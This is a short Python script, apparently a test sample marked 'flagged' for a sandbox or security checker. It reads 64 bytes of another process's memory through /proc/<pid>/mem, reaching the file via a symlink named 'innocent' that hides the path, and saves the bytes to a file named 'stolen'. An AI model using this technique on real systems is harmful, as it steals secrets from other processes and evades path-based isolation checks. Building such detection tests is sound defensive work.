# flagged: python3.11
import os
target = os.environ["RG_OUTSIDER"]
os.symlink(f"/proc/{target}/task/{target}", "innocent")
memory = os.open("innocent/mem", os.O_RDONLY)
taken = os.pread(memory, 64, int(os.environ["RG_SECRET_AT"], 16))
with open("stolen", "wb") as file:
    file.write(taken)
